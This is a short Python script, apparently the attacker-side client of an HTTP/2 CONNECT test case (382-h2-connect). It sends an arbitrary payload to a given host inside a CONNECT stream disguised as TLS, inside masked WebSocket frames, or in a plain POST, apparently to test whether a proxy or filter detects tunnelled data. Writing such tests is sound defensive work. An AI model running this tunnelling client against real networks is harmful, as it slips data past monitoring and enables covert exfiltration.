#!/usr/bin/env python3
# h2_connect.py - the attacker's side of 382-h2-connect: an h2c (prior
# knowledge) client that opens a CONNECT stream (RFC 9113 8.5) or an
# extended CONNECT (RFC 8441, :protocol websocket) and writes TLS-looking
# or masked bytes inside it; "get": a plain POST with a clean body.
# usage: h2_connect.py MODE HOST PORT AUTHORITY PAYLOAD
import os, socket, struct, sys, time

mode, host, port, auth, payload = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5].encode()


def frame(t, flags, sid, p):
    return struct.pack('>I', len(p))[1:] + bytes([t, flags]) + struct.pack('>I', sid) + p


def lit(n, v):
    return b'\x00' + bytes([len(n)]) + n + bytes([len(v)]) + v


hdr = [(b':method', b'CONNECT'), (b':authority', auth.encode())]
if mode == 'ws':
    hdr = [(b':method', b'CONNECT'), (b':protocol', b'websocket'), (b':scheme', b'http'),
           (b':path', b'/chat'), (b':authority', auth.encode())]
elif mode == 'get':
    hdr = [(b':method', b'POST'), (b':scheme', b'http'), (b':path', b'/up'),
           (b':authority', auth.encode())]
if mode == 'tls':
    # a TLS record header, then the "ciphertext": what nobody can read
    body = b'\x16\x03\x01' + struct.pack('>H', len(payload)) + payload
elif mode == 'ws':
    key = os.urandom(4)
    body = bytes([0x82, 0x80 | len(payload)]) + key + bytes(b ^ key[i % 4] for i, b in enumerate(payload))
else:
    body = payload
s = socket.create_connection((host, port), timeout=5)
try:
    s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b''))
    s.sendall(frame(1, 0x4, 1, b''.join(lit(n, v) for n, v in hdr)))
    time.sleep(0.1)
    s.sendall(frame(0, 0, 1, body))
    time.sleep(0.3)
    print('sent')
except OSError as e:
    print('refused:', e)
